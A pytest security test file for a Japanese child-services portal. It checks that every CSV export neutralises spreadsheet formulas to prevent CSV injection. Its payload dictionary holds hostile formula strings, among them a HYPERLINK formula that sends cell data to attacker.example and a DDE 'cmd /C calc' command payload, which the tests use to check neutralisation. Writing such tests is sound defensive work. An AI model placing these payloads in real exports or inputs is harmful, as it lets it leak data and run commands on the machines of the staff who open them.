"""Every CSV the application writes neutralises spreadsheet formulas.

A name typed into a form (a child's, a school's, a catalogue entry's) ends
up in an export that a staff member opens in a spreadsheet: a cell starting
with ``= + - @``, a tab or a carriage return would run as a formula there
(CSV injection). So there is one CSV writer, :class:`portal.tabular.SafeCsvWriter`:

- :func:`test_only_the_one_writer_writes_csv` fails when any module of the
  application other than ``portal/tabular.py`` writes CSV itself;
- :func:`test_every_csv_download_neutralises_formula_cells` puts formula-like
  values in every text a CSV can carry, downloads every GET route for every
  role, and checks every cell of every CSV (and of every CSV in a zip).
"""

from __future__ import annotations

import ast
import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from portal.tabular import FORMULA_PREFIXES, neutralise, unneutralise
from tests.security import routewalk
from tests.security.test_idor import build_world

ROOT = Path(__file__).resolve().parents[2]
#: The application's packages (``portal.DOMAINS`` live in these).
PACKAGES = ("portal", "consent", "surveys", "resources", "backoffice")
THE_WRITER = ROOT / "portal" / "tabular.py"
WRITERS = {"writer", "DictWriter"}

PAYLOADS = {
    "child": "=HYPERLINK(\"http://attacker.example/\"&A1,\"開く\")",
    "school": "+SUM(1,2)テスト小学校",
    "service": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "-2+3 説明",
    "organization": "\t=1+1 団体",
    "fees": "\r=1+1 料金",
}
NUMBER = re.compile(r"^-?\d+(\.\d+)?([eE][-+]?\d+)?$")


def _csv_writing_uses(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"), str(path))
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Attribute) and node.attr in WRITERS and isinstance(node.value, ast.Name) \
                and node.value.id in ("csv", "_csv"):
            found.append(f"{path.relative_to(ROOT)}:{node.lineno}: csv.{node.attr}")
        if isinstance(node, ast.ImportFrom) and node.module in ("csv", "_csv"):
            for alias in node.names:
                if alias.name in WRITERS or alias.name == "*":
                    found.append(f"{path.relative_to(ROOT)}:{node.lineno}: from csv import {alias.name}")
    return found


def test_only_the_one_writer_writes_csv():
    files = [p for pkg in PACKAGES for p in (ROOT / pkg).rglob("*.py")]
    assert len(files) > 50
    offenders = [use for p in files if p != THE_WRITER for use in _csv_writing_uses(p)]
    assert not offenders, ("CSV written outside portal.tabular (use SafeCsvWriter / csv_text / write_csv / "
                           "csv_response, which neutralise formulas):\n" + "\n".join(offenders))
    assert _csv_writing_uses(THE_WRITER), "the one writer is in portal/tabular.py"


def test_the_writer_neutralises_every_formula_prefix_and_reads_back():
    for prefix in FORMULA_PREFIXES:
        cell = f"{prefix}1+1"
        assert neutralise(cell) == "'" + cell
        assert unneutralise(neutralise(cell)) == cell
    assert neutralise(-3) == -3 and neutralise("普通の名前") == "普通の名前"


def _cells(name: str, data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _csv_files(resp) -> dict[str, bytes]:
    data = resp.get_data()
    disposition = resp.headers.get("Content-Disposition", "")
    if resp.mimetype == "text/csv" or ".csv" in disposition:
        return {resp.request.path: data}
    if resp.mimetype == "application/zip" and data[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            return {f"{resp.request.path}!{n}": zf.read(n) for n in zf.namelist() if n.endswith(".csv")}
    return {}


def _formula_world(make, session, w):
    """Formula-like text in everything a CSV export carries."""
    from backoffice.casework import service as casework
    from consent.testing import give_consent
    from portal.auth.principal import SYSTEM
    from portal.people.models import SchoolKind
    from resources import service as catalogue
    from resources.service import ServiceData

    school = make.school(SchoolKind.junior_high, name=PAYLOADS["school"])
    child = make.child(w.cls_v, name=PAYLOADS["child"])
    give_consent(session, child, "data_linkage", "wellbeing_survey")
    casework.open_case(session, SYSTEM, child.id)
    make.teacher_with_class(2, school=school)
    s = catalogue.save_service(session, SYSTEM, ServiceData(
        name_ja=PAYLOADS["service"], name_en=PAYLOADS["service"], description_ja=PAYLOADS["description"],
        description_en=PAYLOADS["description"], fees_ja=PAYLOADS["fees"], fees_en=PAYLOADS["fees"],
        is_free=False, organization_name=PAYLOADS["organization"], categories=["childrens_cafeteria"]))
    catalogue.publish(session, SYSTEM, s)
    session.flush()


def test_every_csv_download_neutralises_formula_cells(app, session, make):
    w = build_world(make, session)
    routewalk.build_everything(w, session)
    _formula_world(make, session, w)
    session.commit()

    seen: dict[str, list[str]] = {}
    failures = []
    for v in routewalk.staff_visits(app, session, w):
        c = routewalk.client_as(app, w, v.who)
        resp = c.get(v.url)
        files = _csv_files(resp) if resp.status_code == 200 else {}
        resp.close()
        for name, data in files.items():
            cells = _cells(name, data)
            seen.setdefault(name, []).extend(cells)
            for cell in cells:
                if cell.startswith(FORMULA_PREFIXES) and not NUMBER.match(cell):
                    failures.append(f"{name} as {v.role}: cell {cell[:40]!r} would run as a formula")
    session.rollback()
    assert not failures, "\n".join(sorted(set(failures)))

    # Not passing for want of exports: each CSV route was downloaded, and carried the payloads neutralised.
    routes = {n.split("!")[0] for n in seen}
    for path in ("/staff/cases/register.csv", "/staff/cases/municipality.csv", "/staff/screening/evaluation.csv",
                 "/resources/manage/export.csv", "/resources/manage/export-tables.zip"):
        assert any(r.endswith(path) for r in routes), f"{path} was not downloaded: {sorted(routes)}"
    every_cell = [c for cells in seen.values() for c in cells]
    for what, payload in PAYLOADS.items():
        stored = payload.strip()  # the forms and services strip a leading tab or CR; the writer is tested for them above
        assert any(c == "'" + stored for c in every_cell), f"the {what} payload is not in any CSV, neutralised"


@pytest.mark.parametrize("module", ["resources.hsds", "resources.hsds_tabular"])
def test_hsds_exports_neutralise_and_still_round_trip(app, session, make, module):
    """The HSDS services.csv and the tabular package keep formula-like text safe, and read it back as it was."""
    from portal.auth.principal import SYSTEM
    from resources import hsds, hsds_tabular
    from resources import service as catalogue
    from resources.models import Service
    from resources.service import ServiceData

    s = catalogue.save_service(session, SYSTEM, ServiceData(name_ja=PAYLOADS["service"], description_ja=PAYLOADS["description"],
                                                            categories=["childrens_cafeteria"]))
    catalogue.publish(session, SYSTEM, s)
    session.flush()
    if module == "resources.hsds":
        text = hsds.export_csv(session, "ja")
        cells = _cells("services.csv", text.encode())
        raw = text.encode()
    else:
        raw = hsds_tabular.export_datapackage(session, "ja")
        with zipfile.ZipFile(io.BytesIO(raw)) as zf:
            cells = _cells("services.csv", zf.read("services.csv"))
    assert "'" + PAYLOADS["service"] in cells and PAYLOADS["service"] not in cells
    session.delete(s)
    session.flush()
    if module == "resources.hsds":
        hsds.import_csv(session, SYSTEM, raw)
    else:
        hsds_tabular.import_datapackage(session, SYSTEM, raw)
    session.flush()
    back = session.query(Service).one()
    assert back.name_ja == PAYLOADS["service"] and back.description_ja == PAYLOADS["description"]


def test_formula_prefixes_after_spaces_or_in_full_width_are_neutralised_too():
    """Japanese input gives ＝ ＋ － ＠; a leading space does not stop a spreadsheet either."""
    from portal.tabular import neutralise, unneutralise

    for text in (" =1+1", "\u3000=1+1", "＝HYPERLINK(\"http://x\")", "＋1", "－1", "＠SUM(A1)", "  @x"):
        cell = neutralise(text)
        assert cell == "'" + text, text
        assert unneutralise(cell) == text
    assert neutralise("佐藤 凛") == "佐藤 凛" and neutralise("1-2") == "1-2"
